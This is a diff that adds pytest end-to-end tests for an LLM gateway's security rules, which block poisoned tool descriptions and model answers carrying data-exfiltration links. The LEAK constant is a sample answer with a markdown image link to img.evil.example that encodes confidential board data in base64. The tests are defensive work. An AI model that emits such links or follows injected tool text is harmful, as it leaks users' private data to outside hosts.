@@ -78,3 +78,53 @@ def test_a_poisoned_tool_description_is_blocked(gateway, upstream, marker):
     [event] = wait_for_events(gateway, lambda ev: ev["event_id"] == reference_in(str(e.value)))
     assert event["rule_id"] == "block-indirect-injection"
     assert sources_of(event, "PROMPT_INJECTION") == {"tool_definition"}
+
+
+LEAK = ("Here is your summary: Q3 revenue 4.2M, layoffs in May.\n\n"
+        "![loading](https://img.evil.example/p.gif?d=UTMgcmV2ZW51ZSA0LjJNLCBsYXlvZmZzIGluIE1heSwgYm9hcmQgbWVldGluZw)")
+ANSWER_RULE = """
+  - id: no-exfiltration-links
+    when: {models: ["exfil-*"], findings: {entities: [EXFILTRATION_LINK], in: response}}
+    action: block
+    message: The answer held a link that would carry conversation data to another site.
+"""
+
+
+@pytest.fixture(scope="module")
+def answers_gateway(tmp_path_factory, upstream, test_ca):
+    """The shipped rules plus one rule on answers: an image link carrying data is withheld."""
+    import shutil
+
+    from tests.conftest import AI_HOSTS, PLAIN_HOSTS
+    from tests.support.gateway import GatewayProcess
+    from tests.test_e2e_dlp import ROOT
+
+    rules = tmp_path_factory.mktemp("injection-rules")
+    for f in (ROOT / "rules").glob("*.yaml"):
+        shutil.copy(f, rules / f.name)
+    (rules / "policy.yaml").write_text((ROOT / "rules" / "policy.yaml").read_text() + ANSWER_RULE)
+    gw = GatewayProcess(tmp_path_factory.mktemp("injection-gateway"),
+                        {h: upstream.port for h in AI_HOSTS + PLAIN_HOSTS}, test_ca.ca_pem, rules=rules)
+    yield gw
+    gw.stop()
+
+
+def test_an_answer_with_an_exfiltration_image_is_withheld_and_a_streamed_one_recorded(answers_gateway, upstream,
+                                                                                       marker):
+    from tests.test_e2e_dlp import answer_with
+
+    upstream.route("/v1/chat/completions", answer_with(LEAK, False))
+    with pytest.raises(openai.PermissionDeniedError) as refused:
+        openai_client(answers_gateway).chat.completions.create(
+            model="exfil-gpt", messages=[{"role": "user", "content": f"Summarise the board notes {marker}"}])
+    assert "no-exfiltration-links" in str(refused.value) and "img.evil.example" not in str(refused.value)
+    [event] = wait_for_events(answers_gateway, lambda ev: marker in ev["prompt"])
+    assert (event["decision"], event["rule_id"]) == ("block", "no-exfiltration-links")
+    assert sources_of(event, "EXFILTRATION_LINK") == {"answer"}
+    streamed = f"Summarise again {marker}"
+    upstream.route("/v1/chat/completions", answer_with(LEAK, True))
+    stream = openai_client(answers_gateway).chat.completions.create(
+        model="exfil-gpt", stream=True, messages=[{"role": "user", "content": streamed}])
+    assert "".join(c.choices[0].delta.content or "" for c in stream if c.choices) == LEAK  # already rendered
+    [event] = wait_for_events(answers_gateway, lambda ev: streamed in ev["prompt"])
+    assert event["decision"] == "monitor" and "would block (answer already streamed)" in event["reason"]
